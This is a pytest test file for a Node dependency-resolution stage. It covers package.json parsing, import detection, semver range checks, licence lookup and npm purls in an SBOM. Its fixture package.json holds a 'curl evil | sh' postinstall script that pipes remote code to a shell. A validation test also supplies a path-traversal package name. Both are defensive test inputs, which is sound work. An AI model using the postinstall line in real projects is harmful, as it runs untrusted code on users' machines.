"""Stage 7 for a Node project: package.json read safely, declared packages with their
ranges, undeclared bare imports unresolved, versions and licences only from installed
npm metadata, and `pkg:npm` purls in the SBOM."""

import json
from pathlib import Path

import pytest

from quantumlayer_dagster.analysis.node_imports import node_imports, package_of
from quantumlayer_dagster.artifacts.code import SourceFile
from quantumlayer_dagster.quality import gates
from quantumlayer_dagster.stages.dependency_manifest import resolve_dependencies
from quantumlayer_dagster.supply_chain.npm_dependencies import (
    NOT_INSTALLED_LICENCE,
    npm_packages,
    resolve_npm_dependencies,
)
from quantumlayer_dagster.supply_chain.npm_metadata import installed_npm_package, npm_licence
from quantumlayer_dagster.supply_chain.npm_semver import satisfies
from quantumlayer_dagster.supply_chain.package_json import (
    MAX_PACKAGE_JSON_BYTES,
    PackageJsonError,
    read_package_json,
)
from quantumlayer_dagster.supply_chain.sbom import cyclonedx_sbom, purl

PACKAGE_JSON = {
    "name": "todo-api",
    "version": "0.1.0",
    "scripts": {"postinstall": "curl evil | sh"},
    "dependencies": {"express": "^4.18.2", "@acme/logger": "1.2.3", "left-pad": "^1.3.0"},
    "devDependencies": {"typescript": "^5.4.0", "@types/node": "20.19.43"},
}

SERVER_TS = """\
import express from "express";
import { readFile } from "node:fs/promises";
import * as path from "path";
import { log } from "@acme/logger/console";
import type { Options } from "./options";
import chalk from "chalk";
const helper = require("./helper");
const lazy = await import("dayjs");
export { thing } from "undeclared-reexport";
import legacy = require("legacy-lib");
const dynamic = require(name);
"""


def tree(
    package_json: object = PACKAGE_JSON, files: dict[str, str] | None = None
) -> list[SourceFile]:
    text = package_json if isinstance(package_json, str) else json.dumps(package_json)
    sources = [SourceFile(path="package.json", content=text)]
    sources += [SourceFile(path=path, content=c) for path, c in (files or {}).items()]
    return sources


def install(node_modules: Path, name: str, version: str, **extra: object) -> None:
    folder = node_modules / name
    folder.mkdir(parents=True)
    (folder / "package.json").write_text(json.dumps({"name": name, "version": version, **extra}))


# --- package.json --------------------------------------------------------------------------


def test_package_json_gives_declared_packages_with_ranges_and_scope():
    manifest = read_package_json(tree())
    declared = {(d.name, d.version_range, d.scope) for d in manifest.declared}
    assert declared == {
        ("@acme/logger", "1.2.3", "runtime"),
        ("express", "^4.18.2", "runtime"),
        ("left-pad", "^1.3.0", "runtime"),
        ("@types/node", "20.19.43", "dev"),
        ("typescript", "^5.4.0", "dev"),
    }
    assert (manifest.name, manifest.version) == ("todo-api", "0.1.0")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("{not json", "not valid JSON"),
        ("[1, 2]", "JSON list, not an object"),
        ('{"dependencies": ["express"]}', "dependencies is not an object"),
        ('{"dependencies": {"express": 4}}', "the version is not a short string"),
        ('{"dependencies": {"../../etc": "1.0.0"}}', "is not an npm package name"),
        ("[" * 15_000 + "]" * 15_000, "nested too deeply"),
    ],
)
def test_malformed_package_json_is_rejected_with_the_reason(content, reason):
    with pytest.raises(PackageJsonError, match=reason):
        read_package_json(tree(content))


def test_malformed_package_json_becomes_a_manifest_problem_and_fails_the_gate():
    files = tree("{oops", {"src/app.js": 'const e = require("express");\n'})
    manifest = resolve_npm_dependencies(files, "app")
    assert manifest.problems and "not valid JSON" in manifest.problems[0]
    [dep] = manifest.dependencies
    assert not dep.resolved and "package.json could not be read" in (dep.reason or "")
    assert not gates.dependencies_resolved(manifest).passed
    assert "not valid JSON" in manifest.markdown()


def test_oversized_package_json_is_a_problem_not_a_crash():
    huge = json.dumps({"name": "x", "description": "a" * MAX_PACKAGE_JSON_BYTES})
    manifest = resolve_npm_dependencies(tree(huge), "x")
    assert manifest.problems == [
        f"package.json is {len(huge)} bytes, over the {MAX_PACKAGE_JSON_BYTES}-byte limit"
    ]


def test_missing_package_json_is_a_problem():
    files = [SourceFile(path="src/index.js", content="export const x = 1;\n")]
    manifest = resolve_npm_dependencies(files, "x")
    assert manifest.problems == ["the project has no package.json at its root"]


# --- imports -------------------------------------------------------------------------------


def test_every_literal_module_specifier_form_is_found_with_its_line():
    found = node_imports("src/server.ts", SERVER_TS)
    assert [i.specifier for i in found] == [
        "express",
        "node:fs/promises",
        "path",
        "@acme/logger/console",
        "./options",
        "chalk",
        "./helper",
        "dayjs",
        "undeclared-reexport",
        "legacy-lib",
    ]
    assert found[5].line == 6


@pytest.mark.parametrize(
    ("specifier", "package"),
    [
        ("lodash/fp", "lodash"),
        ("@scope/pkg/sub/path", "@scope/pkg"),
        ("node:test", None),
        ("fs/promises", None),
        ("child_process", None),
        ("./local", None),
        ("../up", None),
        ("/abs/path", None),
        ("#internal", None),
        ("https://esm.sh/react", None),
    ],
)
def test_package_of_a_specifier_skips_relative_builtin_and_url_ones(specifier, package):
    assert package_of(specifier) == package


def test_undeclared_bare_imports_are_unresolved_and_builtins_are_not_dependencies(tmp_path):
    manifest = resolve_npm_dependencies(tree(files={"src/server.ts": SERVER_TS}), "todo_api")
    unresolved = {d.import_name: d for d in manifest.dependencies if not d.resolved}
    assert set(unresolved) == {"chalk", "dayjs", "undeclared-reexport", "legacy-lib"}
    assert unresolved["chalk"].imported_by == ["src/server.ts"]
    assert "not declared in package.json" in (unresolved["chalk"].reason or "")
    names = {d.import_name for d in manifest.dependencies}
    assert not names & {"path", "node:fs/promises", "fs", "./options"}
    assert manifest.declared_unused == ["left-pad"]  # devDependencies need no import


def test_type_only_import_is_provided_by_its_declared_types_package():
    source = 'import type { Server } from "node-server";\nimport type { X } from "@a/b";\n'
    declared = {"devDependencies": {"@types/node-server": "1.0.0", "@types/a__b": "2.0.0"}}
    manifest = resolve_npm_dependencies(tree(declared, {"src/a.ts": source}), "app")
    assert manifest.unresolved == []
    runtime = resolve_npm_dependencies(
        tree(declared, {"src/a.ts": 'import { serve } from "node-server";\n'}), "app"
    )
    assert runtime.unresolved == ["node-server"]


def test_declared_package_imported_by_subpath_is_resolved_with_its_users():
    manifest = resolve_npm_dependencies(tree(files={"src/server.ts": SERVER_TS}), "todo_api")
    logger = next(d for d in manifest.dependencies if d.import_name == "@acme/logger")
    assert logger.resolved and logger.source == "package.json"
    assert logger.imported_by == ["src/server.ts"]


def test_node_language_routes_the_stage_to_package_json():
    files = tree(files={"src/index.js": 'require("express");\n'})
    manifest = resolve_dependencies(files, "todo_api", language="javascript")
    assert manifest.ecosystem == "npm"
    assert manifest.requirements_txt() == ""
    python = resolve_dependencies(files, "todo_api")
    assert python.ecosystem == "pypi" and python.dependencies == []


# --- versions and licences -----------------------------------------------------------------


def test_licence_and_version_come_from_an_installed_package_in_range(tmp_path):
    install(tmp_path, "express", "4.21.2", license="MIT")
    install(tmp_path, "@acme/logger", "1.2.3", license={"type": "ISC"})
    manifest = resolve_npm_dependencies(tree(), "todo_api", node_modules=[tmp_path])
    by_name = {d.import_name: d for d in manifest.dependencies}
    express = by_name["express"]
    assert (express.version, express.version_source, express.version_range) == (
        "4.21.2",
        "installed",
        "^4.18.2",
    )
    assert (express.licence, express.licence_verdict) == ("MIT", "allowed")
    assert by_name["@acme/logger"].licence == "ISC"


def test_not_installed_package_has_an_unknown_licence_never_a_guess(tmp_path):
    manifest = resolve_npm_dependencies(tree(), "todo_api", node_modules=[tmp_path])
    express = next(d for d in manifest.dependencies if d.import_name == "express")
    assert express.licence is None and express.licence_verdict == "unknown"
    assert express.licence_reason == NOT_INSTALLED_LICENCE == "not installed: licence unknown"
    assert f"express: {NOT_INSTALLED_LICENCE} (unknown)" in manifest.licence_problems
    assert not gates.licences_allowed(manifest).passed


def test_a_range_is_not_a_pin_unless_an_installed_version_fits_it(tmp_path):
    install(tmp_path, "left-pad", "2.0.0", license="WTFPL")  # outside ^1.3.0
    manifest = resolve_npm_dependencies(tree(), "todo_api", node_modules=[tmp_path])
    by_name = {d.import_name: d for d in manifest.dependencies}
    assert by_name["@acme/logger"].version == "1.2.3"  # exact: the declared pin
    assert by_name["@acme/logger"].version_source == "declared"
    left_pad = by_name["left-pad"]
    assert left_pad.version is None
    assert "installed 2.0.0 is outside the range '^1.3.0'" in (left_pad.version_reason or "")
    assert left_pad.licence is None  # the installed one is another version
    detail = gates.dependencies_resolved(manifest).detail
    assert "unpinned: express (range '^4.18.2' is not one version" in detail


def test_the_platform_tools_folder_answers_for_packages_installed_there():
    modules = Path(__file__).resolve().parents[2] / "tools" / "node" / "node_modules"
    if not (modules / "typescript").is_dir():
        pytest.skip("tools/node not installed: run `make node-tools`")
    typescript = installed_npm_package("typescript", [modules])
    assert typescript is not None and typescript.licence == "Apache-2.0"
    assert typescript.version == "5.9.3"


@pytest.mark.parametrize(
    ("data", "licence"),
    [
        ({"license": "(MIT OR Apache-2.0)"}, "(MIT OR Apache-2.0)"),
        ({"license": {"type": "BSD-3-Clause"}}, "BSD-3-Clause"),
        ({"licenses": [{"type": "MIT"}, {"type": "GPL-2.0"}]}, "MIT OR GPL-2.0"),
        ({"license": "SEE LICENSE IN LICENSE.md"}, None),
        ({"license": "UNLICENSED"}, "UNLICENSED"),
        ({}, None),
    ],
)
def test_npm_licence_fields_old_and_new(data, licence):
    assert npm_licence(data) == licence


@pytest.mark.parametrize(
    ("version", "spec", "expected"),
    [
        ("4.21.2", "^4.18.2", True),
        ("5.0.0", "^4.18.2", False),
        ("0.2.9", "^0.2.3", True),
        ("0.3.0", "^0.2.3", False),
        ("1.2.9", "~1.2.3", True),
        ("1.3.0", "~1.2.3", False),
        ("1.4.0", ">=1.2 <2", True),
        ("2.0.0", ">=1.2 <2", False),
        ("3.1.0", "1.x || 3.x", True),
        ("2.5.0", "1.0.0 - 2.4", False),
        ("2.4.7", "1.0.0 - 2.4", True),
        ("1.0.0", "*", True),
        ("1.0.0", "latest", None),
        ("1.0.0", "github:user/repo", None),
    ],
)
def test_npm_range_matching(version, spec, expected):
    assert satisfies(version, spec) is expected


# --- SBOM ----------------------------------------------------------------------------------


def test_npm_purls_percent_encode_the_scope():
    assert purl("express", "4.21.2", "npm") == "pkg:npm/express@4.21.2"
    assert purl("@acme/logger", "1.2.3", "npm") == "pkg:npm/%40acme/logger@1.2.3"
    assert purl("left-pad", None, "npm") == "pkg:npm/left-pad"


def test_sbom_has_npm_components_with_groups_and_dev_marks(tmp_path):
    install(tmp_path, "express", "4.21.2", license="MIT")
    files = tree(files={"src/server.ts": SERVER_TS})
    sbom = cyclonedx_sbom(resolve_npm_dependencies(files, "todo_api", node_modules=[tmp_path]))
    components = {c["purl"]: c for c in sbom["components"]}
    assert set(components) == {
        "pkg:npm/express@4.21.2",
        "pkg:npm/%40acme/logger@1.2.3",
        "pkg:npm/%40types/node@20.19.43",
        "pkg:npm/left-pad",
        "pkg:npm/typescript",
    }
    logger = components["pkg:npm/%40acme/logger@1.2.3"]
    assert (logger["group"], logger["name"]) == ("@acme", "logger")
    assert components["pkg:npm/express@4.21.2"]["licenses"] == [{"license": {"id": "MIT"}}]
    dev = components["pkg:npm/typescript"]["properties"]
    assert dev == [{"name": "cdx:npm:package:development", "value": "true"}]
    unresolved = {p["value"].split(":")[0] for p in sbom["properties"]}
    assert unresolved == {"chalk", "dayjs", "undeclared-reexport", "legacy-lib"}


def test_audit_targets_are_every_declared_package():
    manifest = resolve_npm_dependencies(tree(), "todo_api")
    assert npm_packages(manifest) == [
        "@acme/logger@1.2.3",
        "@types/node@20.19.43",
        "express@^4.18.2",
        "left-pad@^1.3.0",
        "typescript@^5.4.0",
    ]
